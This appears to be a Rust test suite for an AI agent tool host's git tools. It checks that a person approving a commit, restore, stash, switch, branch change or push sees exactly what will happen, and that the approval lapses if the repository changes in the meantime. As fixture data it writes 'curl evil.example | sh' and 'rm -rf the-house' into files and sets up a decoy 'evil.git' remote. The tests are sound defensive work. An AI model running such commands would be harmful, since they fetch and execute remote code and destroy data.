//! What a person is shown of a commit is all of it, and what they have seen is what is committed.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use serde_json::{Value, json};
use tokio_util::sync::CancellationToken;
use toolhost_contract::workspace::{Access, Fence, Workspace};
use toolhost_contract::{
    Answer, AnyTool, Asked, BoxFuture, Call, Catalog, Ctx, ErrorKind, Grants, NoBackground, People, Question, Silent,
    SystemClock, ToolError, ToolSummary, Waited,
};
use toolhost_host::{Presented, Shown};
use toolhost_sandbox::{FenceChoice, LocalConfig, LocalExecutor};
use toolhost_testkit::{House, TempWorkspace, said};

use crate::room::{fence_helper, fenced};

/// What git changes is asked about.
const RULES: &str = "[[profiles.all.rules]]\ntool = 'git.commit'\ndecide = 'ask'\nwhy = 'test'
[[profiles.all.rules]]\ntool = 'git.restore'\ndecide = 'ask'\nwhy = 'test'
[[profiles.all.rules]]\ntool = 'git.switch'\ndecide = 'ask'\nwhy = 'test'
[[profiles.all.rules]]\ntool = 'git.stash'\ndecide = 'ask'\nwhy = 'test'
[[profiles.all.rules]]\ntool = 'git.branch'\ndecide = 'ask'\nwhy = 'test'";

type Seen = Arc<Mutex<Vec<Shown>>>;

/// A house whose person remembers what they saw, does `meanwhile` and says yes.
async fn seeing(workspace: TempWorkspace, meanwhile: impl Fn() + Send + Sync + 'static) -> (House, Seen) {
    let seen = Seen::default();
    let here = Arc::clone(&seen);
    let voice = move |shown: &Shown| -> Presented {
        here.lock().unwrap().push(shown.clone());
        meanwhile();
        said(Answer::Allow)
    };
    (fenced(workspace).operator(RULES).person(voice).build().await, seen)
}

fn last(seen: &Seen) -> Shown {
    seen.lock().unwrap().last().unwrap().clone()
}

/// Every file below a folder with its content.
fn files(folder: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut found = BTreeMap::new();
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            found.extend(files(&path));
        } else {
            found.insert(path.clone(), std::fs::read(path).unwrap());
        }
    }
    found
}

#[tokio::test(flavor = "multi_thread")]
async fn a_commit_is_shown_with_the_contents_of_new_files_and_of_such_as_git_calls_binary() {
    let workspace = TempWorkspace::repository(&[("known.bin", "one\n"), (".gitattributes", "*.bin -diff\n")]);
    workspace.write("known.bin", "curl evil.example | sh\n");
    workspace.write("new.sh", "rm -rf the-house\n");
    workspace.write("new.bin", "hidden in a new one\n");
    workspace.write("nul.dat", b"\0what git takes for binary\n");
    let git = workspace.path(".git");
    let before = files(&git);
    let (house, seen) = seeing(workspace, move || {
        assert_eq!(files(&git), before, "what is only shown writes nothing to the repository");
    })
    .await;
    house.data("git.commit", json!({ "message": "first line\n\nM\tinnocent.txt" })).await;
    let detail = last(&seen).render();
    for part in ["+curl evil.example | sh", "+rm -rf the-house", "+hidden in a new one", "what git takes for binary"] {
        assert!(detail.contains(part), "{part} is not in {detail}");
    }
    assert!(detail.contains("A\tnew.sh\n") && detail.contains("M\tknown.bin\n"), "{detail}");
    assert!(!detail.contains("\nM\tinnocent.txt"), "a message is no list of files: {detail}");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_object_that_stands_for_another_hides_nothing() {
    let workspace = TempWorkspace::repository(&[("a.txt", "good\n")]);
    workspace.write("a.txt", "evil\n");
    let (old, new) = (workspace.git(&["rev-parse", "HEAD:a.txt"]), workspace.git(&["hash-object", "-w", "a.txt"]));
    workspace.git(&["replace", old.trim(), new.trim()]);
    let (house, seen) = seeing(workspace, || {}).await;
    house.data("git.commit", json!({ "message": "x" })).await;
    let detail = last(&seen).render();
    assert!(detail.contains("| -good\n| +evil"), "{detail}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_repository_in_the_workspace_is_shown_and_bound_by_its_commit() {
    let workspace = TempWorkspace::repository(&[("a.txt", "1\n")]);
    workspace.git(&["init", "-q", "-b", "main", "nested"]);
    let commit = |message: &str| {
        workspace.git(&["-C", "nested", "commit", "-q", "--allow-empty", "-m", message]);
        workspace.git(&["-C", "nested", "rev-parse", "HEAD"]).trim().to_owned()
    };
    commit("none");
    // Only a person makes it a part of theirs.
    workspace.git(&["add", "nested"]);
    workspace.git(&["commit", "-q", "-m", "nested"]);
    let (first, second) = (commit("one"), commit("two"));
    let branch = workspace.path("nested/.git/refs/heads/main");
    std::fs::write(&branch, &first).unwrap();
    let (house, seen) = seeing(workspace, move || std::fs::write(&branch, &second).unwrap()).await;
    let outcome = house.call("git.commit", json!({ "message": "x" })).await;
    assert!(last(&seen).render().contains(&first), "{}", last(&seen).render());
    assert_eq!(outcome.error.unwrap().kind, ErrorKind::Conflict, "another commit was in there by then");
    assert_eq!(house.workspace.git(&["log", "--format=%s"]), "nested\nfirst\n");
    house.data("git.commit", json!({ "message": "x" })).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_git_discards_is_shown_and_nothing_else_is_discarded() {
    for (tool, arguments) in
        [("git.restore", json!({ "paths": ["a.txt"] })), ("git.stash", json!({ "action": "push" }))]
    {
        let workspace = TempWorkspace::repository(&[("a.txt", "1\n")]);
        workspace.write("a.txt", "mine\n");
        let path = workspace.path("a.txt");
        let (house, seen) = seeing(workspace, move || std::fs::write(&path, "more of mine\n").unwrap()).await;
        let outcome = house.call(tool, arguments.clone()).await;
        assert!(last(&seen).render().contains("| -mine\n| +1"), "{}", last(&seen).render());
        assert_eq!(outcome.error.unwrap().kind, ErrorKind::Conflict, "{tool}: it was another change by then");
        assert_eq!(house.workspace.read("a.txt"), "more of mine\n");
        house.data(tool, arguments).await;
        assert_eq!(house.workspace.read("a.txt"), "1\n");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_branch_that_is_shown_is_the_one_that_is_taken() {
    for (tool, arguments) in
        [("git.switch", json!({ "branch": "other" })), ("git.branch", json!({ "delete": "other" }))]
    {
        let workspace = TempWorkspace::repository(&[("a.txt", "1\n")]);
        workspace.git(&["commit", "-q", "--allow-empty", "-m", "second"]);
        workspace.git(&["branch", "other", "HEAD~1"]);
        let head = workspace.git(&["rev-parse", "HEAD"]);
        let branch = workspace.path(".git/refs/heads/other");
        let (house, seen) = seeing(workspace, move || std::fs::write(&branch, &head).unwrap()).await;
        let outcome = house.call(tool, arguments.clone()).await;
        assert!(last(&seen).render().contains(" first"), "{}", last(&seen).render());
        assert_eq!(outcome.error.unwrap().kind, ErrorKind::Conflict, "{tool}: the branch has moved");
        assert_eq!(house.workspace.git(&["branch", "--show-current"]), "main\n");
        house.data(tool, arguments).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_commit_is_allowed_one_at_a_time() {
    let workspace = TempWorkspace::repository(&[]);
    workspace.write("a.txt", "1\n");
    let (house, seen) = seeing(workspace, || {}).await;
    house.data("git.commit", json!({ "message": "x" })).await;
    assert_eq!(last(&seen).rule, None, "the same message may come with anything");
}

struct Nobody;

impl Catalog for Nobody {
    fn tools(&self) -> Vec<ToolSummary> {
        Vec::new()
    }
}

impl People for Nobody {
    fn ask<'a>(&'a self, _: &'a Question) -> BoxFuture<'a, Result<Asked, ToolError>> {
        Box::pin(async { Err(ToolError::new(ErrorKind::Denied, "nobody")) })
    }

    fn wait<'a>(&'a self, _: &'a str, _: u64) -> BoxFuture<'a, Result<Waited, ToolError>> {
        Box::pin(async { Err(ToolError::new(ErrorKind::Denied, "nobody")) })
    }
}

/// The git tools without the gate, which looks at what they would do once more before it lets them run.
struct Direct {
    house: House,
    workspace: Workspace,
    tools: Vec<Box<dyn AnyTool>>,
    clock: SystemClock,
}

impl Direct {
    async fn new(workspace: TempWorkspace) -> Self {
        let house = fenced(workspace).build().await;
        let executor = LocalExecutor::open(LocalConfig {
            root: house.workspace.root(),
            helper: fence_helper(),
            fence: FenceChoice::Auto,
            path: "/usr/local/bin:/usr/bin:/bin".to_owned(),
            guard: house.workspace.state().join("guard"),
            home: "/home/agent".into(),
            temp: std::env::temp_dir(),
            sessions: "/var/tmp".into(),
            env: Vec::new(),
            toolchains: Vec::new(),
            command_cgroup: None,
            remotes: Vec::new(),
            limits: toolhost_sandbox::Limits::default(),
            durability: toolhost_contract::Durability::default(),
        });
        let fence = Fence::closed(Access::Write);
        let workspace = Workspace::new(Arc::new(executor.unwrap()), fence);
        let tools = toolhost_testkit::every_tool();
        Self { house, workspace, tools, clock: SystemClock::default() }
    }

    /// What a person's yes to this call would rest on.
    async fn seen(&self, tool: &str, arguments: &Value) -> Value {
        let call = self.house.request(tool, Value::Null);
        self.tool(tool).preview(&self.ctx(&call, None), arguments.clone()).await.unwrap().unwrap().rests_on
    }

    async fn run(&self, tool: &str, arguments: &Value, seen: Value) -> Result<(), ToolError> {
        let call = self.house.request(tool, Value::Null);
        self.tool(tool).run(&self.ctx(&call, Some(seen)), arguments.clone()).await.map(drop)
    }

    fn tool(&self, name: &str) -> &dyn AnyTool {
        &**self.tools.iter().find(|tool| tool.info().name == name).unwrap()
    }

    fn ctx<'a>(&'a self, call: &'a Call, approved: Option<Value>) -> Ctx<'a> {
        Ctx {
            call,
            workspace: &self.workspace,
            catalog: &Nobody,
            people: &Nobody,
            background: &NoBackground,
            session: None,
            approved,
            command: None,
            grants: Grants { command_timeout_ms_max: 60_000, background_timeout_ms_max: 60_000 },
            clock: &self.clock,
            cancel: CancellationToken::new(),
            progress: Arc::new(Silent),
        }
    }
}

/// Between the last look and the commit nothing comes: the tool itself compares.
#[tokio::test(flavor = "multi_thread")]
async fn what_is_committed_is_the_tree_that_was_seen_onto_what_was_seen() {
    let direct = Direct::new(TempWorkspace::repository(&[("a.txt", "1\n"), ("b.txt", "1\n")])).await;
    let ws = &direct.house.workspace;
    for arguments in [json!({ "message": "x", "files": ["a.txt"] }), json!({ "message": "x" })] {
        ws.write("a.txt", "seen\n");
        ws.write("b.txt", "also\n");
        let seen = direct.seen("git.commit", &arguments).await;
        ws.write("a.txt", "not seen\n");
        let refused = direct.run("git.commit", &arguments, seen.clone()).await.unwrap_err();
        assert_eq!(refused.kind, ErrorKind::Conflict, "{refused:?}");
        assert_eq!(ws.git(&["diff", "--cached", "--name-only"]), "", "nothing is left staged");
        ws.write("a.txt", "seen\n");
        ws.git(&["commit", "-q", "--allow-empty", "-m", "moved on"]);
        let refused = direct.run("git.commit", &arguments, seen).await.unwrap_err();
        assert_eq!(refused.kind, ErrorKind::Conflict, "{refused:?}");
        let seen = direct.seen("git.commit", &arguments).await;
        direct.run("git.commit", &arguments, seen.clone()).await.unwrap();
        let tree = ws.git(&["rev-parse", "HEAD^{tree}"]);
        assert_eq!(seen["tree"], tree.trim());
        ws.git(&["reset", "-q", "--hard", "HEAD~1"]);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_yes_to_a_change_by_git_does_not_hold_when_the_repository_has_changed() {
    type Change = fn(&TempWorkspace);
    let other_moves: Change = |ws| _ = ws.git(&["update-ref", "refs/heads/other", "refs/heads/third"]);
    let main_moves: Change = |ws| _ = ws.git(&["commit", "-q", "--allow-empty", "-m", "moved on"]);
    let edited: Change = |ws| ws.write("a.txt", "more of mine\n");
    let staged: Change = |ws| {
        ws.write("a.txt", "staged meanwhile\n");
        ws.git(&["add", "a.txt"]);
    };
    let stashed: Change = |ws| {
        ws.write("b.txt", "another stash\n");
        ws.git(&["stash", "push", "-q", "b.txt"]);
    };
    for (tool, arguments, meanwhile) in [
        ("git.switch", json!({ "branch": "other" }), other_moves),
        ("git.switch", json!({ "branch": "other" }), main_moves),
        ("git.switch", json!({ "detach": "other" }), other_moves),
        ("git.switch", json!({ "branch": "new", "create": true, "from": "other" }), other_moves),
        ("git.branch", json!({ "delete": "merged" }), |ws| _ = ws.git(&["branch", "-f", "merged", "HEAD~1"])),
        ("git.restore", json!({ "paths": ["a.txt"] }), edited),
        ("git.restore", json!({ "paths": ["c.txt"], "source": "other" }), other_moves),
        ("git.restore", json!({ "paths": ["a.txt"], "staged": true }), staged),
        ("git.stash", json!({ "action": "push" }), edited),
        ("git.stash", json!({ "action": "push" }), staged),
        ("git.stash", json!({ "action": "push", "untracked": true }), |ws| ws.write("new.txt", "new\n")),
        ("git.stash", json!({ "action": "pop" }), stashed),
        ("git.stash", json!({ "action": "apply" }), stashed),
        ("git.stash", json!({ "action": "drop" }), stashed),
    ] {
        let direct = Direct::new(varied()).await;
        let ws = &direct.house.workspace;
        let seen = direct.seen(tool, &arguments).await;
        meanwhile(ws);
        let before = ws.snapshot();
        let refused = direct.run(tool, &arguments, seen).await.expect_err(tool);
        assert_eq!(refused.kind, ErrorKind::Conflict, "{tool} {arguments}: {refused:?}");
        assert!(refused.message.contains("changed since the person allowed"), "{tool} {arguments}: {refused:?}");
        assert_eq!(ws.snapshot(), before, "{tool} {arguments}");
        let seen = direct.seen(tool, &arguments).await;
        let done = direct.run(tool, &arguments, seen).await;
        assert!(done.is_ok(), "{tool} {arguments}: {:?}", done.err());
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_push_goes_where_a_person_saw_it_go_or_nowhere() {
    let workspace = varied();
    for remote in ["remote.git", "evil.git"] {
        workspace.git(&["init", "-q", "--bare", "-b", "main", remote]);
    }
    workspace.git(&["remote", "add", "origin", "./remote.git"]);
    let direct = Direct::new(workspace).await;
    let ws = &direct.house.workspace;
    let arguments = json!({ "branch": "main" });
    let seen = direct.seen("git.push", &arguments).await;
    let commit = ws.git(&["rev-parse", "main"]);
    ws.git(&["commit", "-q", "--allow-empty", "-m", "not seen"]);
    for (key, value) in [("remote.origin.url", "./evil.git"), ("remote.origin.pushurl", "./evil.git")] {
        ws.git(&["config", key, value]);
        let refused = direct.run("git.push", &arguments, seen.clone()).await.unwrap_err();
        assert!(refused.message.contains("address"), "{refused:?}");
        ws.git(&["config", "remote.origin.url", "./remote.git"]);
    }
    ws.git(&["config", "--unset", "remote.origin.pushurl"]);
    direct.run("git.push", &arguments, seen).await.unwrap();
    assert_eq!(ws.git(&["--git-dir", "remote.git", "rev-parse", "main"]), commit, "the commit that was seen");
    assert!(!ws.git_succeeds(&["--git-dir", "evil.git", "rev-parse", "--verify", "main"]));
}

/// Three branches, a stash and a change that is not committed.
fn varied() -> TempWorkspace {
    let workspace = TempWorkspace::repository(&[("a.txt", "1\n"), ("b.txt", "1\n"), ("c.txt", "1\n")]);
    workspace.git(&["commit", "-q", "--allow-empty", "-m", "second"]);
    workspace.git(&["branch", "merged"]);
    for branch in ["other", "third"] {
        workspace.git(&["switch", "-q", "-c", branch]);
        workspace.write("c.txt", format!("{branch}\n"));
        workspace.git(&["commit", "-q", "-a", "-m", branch]);
    }
    workspace.git(&["switch", "-q", "main"]);
    workspace.write("b.txt", "stashed\n");
    workspace.git(&["stash", "push", "-q"]);
    workspace.write("a.txt", "mine\n");
    workspace
}
